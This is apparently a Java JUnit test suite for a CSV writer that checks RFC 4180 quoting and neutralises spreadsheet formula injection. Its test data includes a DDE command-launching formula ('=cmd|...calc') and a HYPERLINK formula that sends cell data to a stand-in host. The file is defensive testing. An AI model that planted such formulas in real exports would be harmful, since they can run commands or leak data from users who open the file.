package io.gratitude.system;

import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.Arrays;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV cells: RFC 4180 quoting, and OWASP's rule against formula injection (text beginning
 * with = + - @ TAB CR or NUL gets a leading quote); numbers the service writes stay
 * numbers.
 */
class CsvWriterTest {

	@ParameterizedTest
	@ValueSource(
			strings = { "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\0=1+1", "=cmd|' /C calc'!A0" })
	void textThatASpreadsheetWouldRunGetsALeadingQuote(String formula) {
		String cell = CsvWriter.cell(formula);

		assertThat(cell).isIn("'" + formula, "\"'" + formula.replace("\"", "\"\"") + "\"");
	}

	@Test
	void aFormulaIsNeutralisedAndQuotedWhenItHoldsQuotesAndCommas() {
		assertThat(CsvWriter.cell("=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click me\")"))
			.isEqualTo("\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"Click me\"\")\"");
		// A carriage return first: neutralised, and quoted as any line break is.
		assertThat(CsvWriter.cell("\r\n=1+1")).isEqualTo("\"'\r\n=1+1\"");
	}

	@ParameterizedTest
	@ValueSource(strings = { "ana", "sale:=1+1", "custom:@SUM(A1)@2027-06-12", " =1+1", "'=1+1", "",
			"2027-06-10T12:00:00Z", "250 2.0.0 OK" })
	void otherTextIsLeftAsItIs(String text) {
		assertThat(CsvWriter.cell(text)).isEqualTo(text);
	}

	@Test
	void commasQuotesAndLineBreaksAreQuotedAsRfc4180Says() {
		assertThat(CsvWriter.cell("a,b")).isEqualTo("\"a,b\"");
		assertThat(CsvWriter.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
		assertThat(CsvWriter.cell("two\nlines")).isEqualTo("\"two\nlines\"");
		assertThat(CsvWriter.cell(null)).isEmpty();
	}

	@Test
	void numbersTheServiceWritesStayNumbersEvenWhenNegativeButNegativeTextIsText() {
		assertThat(CsvWriter.cell(new BigDecimal("-12.50"))).isEqualTo("-12.50");
		assertThat(CsvWriter.cell(new BigDecimal("1E+3"))).isEqualTo("1000");
		assertThat(CsvWriter.cell(-7L)).isEqualTo("-7");
		assertThat(CsvWriter.cell(42)).isEqualTo("42");
		assertThat(CsvWriter.cell("-12.50")).isEqualTo("'-12.50");
		// A number type whose text could be anything ("-Infinity") is written as text.
		assertThat(CsvWriter.cell(Double.NEGATIVE_INFINITY)).isEqualTo("'-Infinity");
	}

	@Test
	void aRecordEndsWithCrLf() throws IOException {
		StringWriter out = new StringWriter();
		CsvWriter csv = new CsvWriter(out);
		csv.record(Arrays.asList(1L, "=x", null, "a,b"));
		csv.record(Arrays.asList("ok"));

		assertThat(out).hasToString("1,'=x,,\"a,b\"\r\nok\r\n");
	}

}
